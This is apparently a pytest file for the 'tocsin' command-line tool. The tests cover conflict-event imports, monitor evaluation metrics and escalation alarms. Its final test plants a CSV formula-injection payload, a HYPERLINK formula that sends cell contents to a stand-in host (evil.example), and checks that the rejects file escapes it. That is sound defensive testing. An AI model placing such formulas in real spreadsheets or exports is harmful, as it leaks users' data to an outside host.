"""`tocsin events` and `tocsin monitor` end to end on a temporary SQLite database."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from typer.testing import CliRunner

from tocsin.cli import app
from tocsin.domain import SignalKind
from tocsin.events import default_alarm_risk
from tocsin.settings import get_settings
from tocsin.store import Database, StoredSignal, list_signals

runner = CliRunner()


def _run(home: Path, *args: str, code: int = 0) -> str:
    result = runner.invoke(app, ["--data-dir", str(home), *args])
    assert result.exit_code == code, result.output
    return result.output


def test_import_twice_summary_and_refusal(tmp_path: Path, events_data: Path) -> None:
    home = tmp_path / "home"
    _run(home, "db", "upgrade")
    geo = str(events_data / "ucdp_ged231_caf_2014.geojson")
    first = json.loads(_run(home, "events", "import", geo, "--format", "ucdp", "--json"))
    again = json.loads(_run(home, "events", "import", geo, "--format", "ucdp", "--json"))
    assert (first["n_added"], again["n_added"], again["already_imported"]) == (200, 0, True)
    [caf] = json.loads(_run(home, "events", "summary", "--country", "CAF", "--json"))
    assert caf["n_reports"] == 200
    lines = (events_data / "acled_2022h1_slice.csv").read_text(encoding="utf-8").splitlines()
    bad = tmp_path / "bad.csv"
    bad.write_text("\n".join([lines[0], lines[1].replace("Mob violence", "Picnic"), lines[2]]))
    _run(home, "events", "import", str(bad), "--format", "acled", code=1)
    [caf] = json.loads(_run(home, "events", "summary", "--json"))
    assert caf["n_reports"] == 200  # nothing from the refused file
    kept = json.loads(
        _run(home, "events", "import", str(bad), "--format", "acled", "--skip-invalid", "--json")
    )
    assert (kept["n_added"], kept["n_rejected"]) == (1, 1)
    assert "Picnic" in Path(kept["rejects_file"]).read_text(encoding="utf-8")


def test_monitor_evaluate_prints_every_metric(events_data: Path) -> None:
    result = runner.invoke(
        app,
        [
            "monitor",
            "evaluate",
            "--events",
            str(events_data / "acled_2022h1_slice.csv"),
            "--format",
            "acled",
            "--detector",
            "default",
            "--json",
        ],
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert [m["name"] for m in data["metrics"]] == ["detector", "persistence", "trailing_mean"]
    assert {
        "roc_auc",
        "pr_auc",
        "recall_at_1_false_alarm_per_area_year",
        "median_lead_weeks",
    } <= set(data["metrics"][0])


def test_monitor_run_says_when_its_data_ended(tmp_path: Path, events_data: Path) -> None:
    home = tmp_path / "home"
    _run(home, "up", "--no-serve", "--json")  # countries and the framework, for Signals
    geo = str(events_data / "ucdp_ged231_caf_2014.geojson")
    _run(home, "events", "import", geo, "--format", "ucdp")
    result = json.loads(_run(home, "monitor", "run", "--min-risk", "0", "--json"))
    # the fixture's events are from 2014: years before today, so the data are stale
    assert result["data_end"] == result["last_event_date"]
    assert result["data_end"].startswith("2014") and result["data_is_stale"] is True
    assert result["n_signals"] >= result["n_areas"] > 0
    text = _run(home, "monitor", "run", "--min-risk", "0")
    assert f"data end {result['data_end']}" in text


def test_monitor_evaluate_reports_new_area_surges(events_data: Path) -> None:
    args = ["monitor", "evaluate", "--events", str(events_data / "acled_2022h1_slice.csv")]
    result = runner.invoke(app, [*args, "--format", "acled", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["n_test_new_area_surges"] <= data["n_test_surges"]
    assert {"new_area_recall", "new_area_median_lead_weeks"} <= set(data["metrics"][0])


def _no_nan(constant: str) -> float:
    raise AssertionError(f"{constant} is not JSON")


def test_monitor_evaluate_json_is_strict_when_there_is_no_surge(events_data: Path) -> None:
    args = ["monitor", "evaluate", "--events", str(events_data / "gdelt1_events_sample.tsv")]
    result = runner.invoke(app, [*args, "--format", "gdelt", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output, parse_constant=_no_nan)
    assert data["n_test_surges"] == 0  # nothing to score: the metrics are null, not NaN
    assert data["pr_auc_ratio_to_best_baseline"] is None
    assert data["metrics"][0]["pr_auc"] is None
    # with no surge every alarm is a false one: at most one per area-year
    assert 0 <= data["metrics"][0]["n_alarms"] <= data["n_test"] // 52


def test_monitor_run_emits_from_the_detectors_alarm_level_by_default(
    tmp_path: Path, events_data: Path
) -> None:
    home = tmp_path / "home"
    _run(home, "up", "--no-serve", "--json")
    # the slice up to the worst week of the year (1 February 2014), so that the latest
    # week of some areas is violent
    document = json.loads((events_data / "ucdp_ged231_caf_2014.geojson").read_text("utf-8"))
    document["features"] = [
        f for f in document["features"] if f["properties"]["date_start"][:10] <= "2014-02-01"
    ]
    geo = tmp_path / "ged_to_february.geojson"
    geo.write_text(json.dumps(document), encoding="utf-8")
    _run(home, "events", "import", str(geo), "--format", "ucdp")
    result = json.loads(_run(home, "monitor", "run", "--top", "1000", "--json"))
    level = default_alarm_risk()
    assert result["signal_risk"] == level
    at_or_above = [row for row in result["top"] if row["risk"] >= level]
    assert 0 < len(at_or_above) < result["n_areas"]  # 2014 was a year of killings
    # every area at the alarm level has its escalation Signal (the rest are trigger events)
    escalations = _escalation_signals(home)
    assert {s.area for s in escalations} == {row["admin1"] for row in at_or_above}
    assert "escalation from a risk of" in _run(home, "monitor", "run")


def _escalation_signals(home: Path) -> list[StoredSignal]:
    db = Database.from_settings(get_settings(home))
    with db.session() as session:
        found = list_signals(session, kinds=[SignalKind.ESCALATION])
    db.dispose()
    return found


def test_the_rejects_file_neutralises_planted_formulas(tmp_path: Path, events_data: Path) -> None:
    home = tmp_path / "home"
    _run(home, "db", "upgrade")
    lines = (events_data / "acled_2022h1_slice.csv").read_text(encoding="utf-8").splitlines()
    header = next(csv.reader([lines[0]]))
    bad_row = next(csv.reader([lines[1]]))
    bad_row[header.index("sub_event_type")] = "Picnic"
    bad_row[header.index("notes")] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    bad_row[header.index("location")] = "-3"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, bad_row])
    bad = tmp_path / "bad.csv"
    bad.write_text(out.getvalue() + lines[2] + "\n", encoding="utf-8")
    kept = json.loads(
        _run(home, "events", "import", str(bad), "--format", "acled", "--skip-invalid", "--json")
    )
    (row,) = csv.DictReader(io.StringIO(Path(kept["rejects_file"]).read_text(encoding="utf-8")))
    assert row["notes"] == "'" + bad_row[header.index("notes")]
    assert row["location"] == "-3" and row["sub_event_type"] == "Picnic"
